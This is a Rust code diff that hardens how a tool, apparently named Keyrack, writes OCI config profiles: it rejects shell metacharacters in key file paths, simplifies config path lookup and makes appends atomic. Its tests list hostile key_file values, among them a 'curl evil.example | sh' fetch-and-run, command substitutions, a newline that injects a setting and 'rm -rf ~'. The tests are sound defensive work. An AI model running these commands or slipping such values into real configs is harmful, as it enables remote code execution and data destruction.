@@ -15,6 +15,10 @@ use crate::secret::Sensitive;
 
 pub const DEFAULT_PROFILE: &str = "DEFAULT";
 
+/// Characters a `key_file` path may not hold: the config is read by shells and scripts too
+/// (`key_file=$(…)`, `;`), and a line break would start a new setting.
+const SHELL_META: &str = "$`;|&<>()\"'*?![]{}\n\r";
+
 /// One profile of the file.
 #[derive(Debug, Clone)]
 pub struct ConfigProfile {
@@ -46,21 +50,13 @@ impl ConfigProfile {
     }
 }
 
-/// Where the SDKs look: `~/.oci/config`, else `$OCI_CONFIG_FILE`, else the legacy
-/// `~/.oraclebmc/config`. The first that exists; `~/.oci/config` when none does.
+/// The OCI config file Keyrack adds profiles to: `$OCI_CONFIG_FILE` when it is set (as the
+/// OCI CLI reads it), else `~/.oci/config`. Never a path the UI chose.
 pub fn default_config_path() -> Option<PathBuf> {
-    let home = dirs::home_dir();
-    let main = home.as_ref().map(|h| h.join(".oci").join("config"));
-    let candidates = [
-        main.clone(),
-        std::env::var_os("OCI_CONFIG_FILE").map(PathBuf::from),
-        home.as_ref().map(|h| h.join(".oraclebmc").join("config")),
-    ];
-    candidates
-        .into_iter()
-        .flatten()
-        .find(|p| p.is_file())
-        .or(main)
+    if let Some(path) = std::env::var_os("OCI_CONFIG_FILE").filter(|p| !p.is_empty()) {
+        return Some(PathBuf::from(path));
+    }
+    dirs::home_dir().map(|h| h.join(".oci").join("config"))
 }
 
 /// Read profile `profile` of the config file at `path`.
@@ -225,6 +221,16 @@ impl ConfigStanza {
             ("region", &self.region),
             ("key_file", &self.key_file),
         ];
+        if self.key_file.chars().any(|c| SHELL_META.contains(c)) {
+            return Err(Error::validation(
+                "key_file",
+                format!(
+                    "the key file's path `{}` holds a character that tools reading the config \
+                     may take for shell syntax ({SHELL_META}); save the key under a plain path",
+                    self.key_file.escape_default()
+                ),
+            ));
+        }
         let mut out = format!("[{profile}]\n");
         for (key, value) in fields {
             if value.trim().is_empty() || value.contains(['\n', '\r']) {
@@ -240,41 +246,30 @@ impl ConfigStanza {
 }
 
 /// Append a profile stanza to an OCI config file without touching the other profiles. Refuses
-/// when the profile already exists. Atomic and 0600 like every secret-adjacent file.
+/// when the profile already exists. Private (0600) and atomic like every secret-adjacent file;
+/// written through a symlink, and safe against another writer (see `fsutil::update_text`).
 pub fn append_profile(config_path: &Path, stanza: &str) -> Result<()> {
     let header = stanza.lines().next().unwrap_or("").trim().to_string();
-    let existing = match std::fs::read_to_string(config_path) {
-        Ok(text) => text,
-        Err(e) if e.kind() == std::io::ErrorKind::NotFound => String::new(),
-        Err(e) => {
-            return Err(Error::io(
-                &format!("could not read {}", config_path.display()),
-                e,
-            ))
+    crate::fsutil::update_text(config_path, |existing| {
+        if existing.lines().any(|l| l.trim() == header) {
+            return Err(Error::Conflict {
+                message: format!(
+                    "{} already has a profile {header}; choose another profile name",
+                    config_path.display()
+                ),
+                detail: None,
+            });
         }
-    };
-    if existing.lines().any(|l| l.trim() == header) {
-        return Err(Error::Conflict {
-            message: format!(
-                "{} already has a profile {header}; choose another profile name",
-                config_path.display()
-            ),
-            detail: None,
-        });
-    }
-    let mut text = existing;
-    if !text.is_empty() {
-        if !text.ends_with('\n') {
+        let mut text = existing.to_string();
+        if !text.is_empty() {
+            if !text.ends_with('\n') {
+                text.push('\n');
+            }
             text.push('\n');
         }
-        text.push('\n');
-    }
-    text.push_str(stanza);
-    crate::fsutil::write_private(
-        config_path,
-        text.as_bytes(),
-        crate::fsutil::Overwrite::Replace,
-    )
+        text.push_str(stanza);
+        Ok(text)
+    })
 }
 
 #[cfg(test)]
@@ -428,8 +423,32 @@ mod tests {
         assert!(bad.render().is_err());
         let bad = ConfigStanza {
             profile: "A]B".into(),
-            ..stanza
+            ..stanza.clone()
         };
         assert!(bad.render().is_err());
+        for hostile in [
+            "/home/ann/.oci/k.pem; curl evil.example | sh",
+            "$(touch /tmp/pwned).pem",
+            "`id`.pem",
+            "/home/ann/k.pem\nuser=ocid1.user.oc1..attacker",
+            "/home/ann/k.pem\r",
+            "k.pem && rm -rf ~",
+        ] {
+            let bad = ConfigStanza {
+                key_file: hostile.into(),
+                ..stanza.clone()
+            };
+            let e = bad.render().unwrap_err();
+            assert_eq!(
+                e.to_public().field.as_deref(),
+                Some("key_file"),
+                "{hostile}"
+            );
+        }
+        let spaced = ConfigStanza {
+            key_file: "/Users/Ann Lee/.oci/key file.pem".into(),
+            ..stanza.clone()
+        };
+        assert!(spaced.render().is_ok(), "spaces are fine in a path");
     }
 }
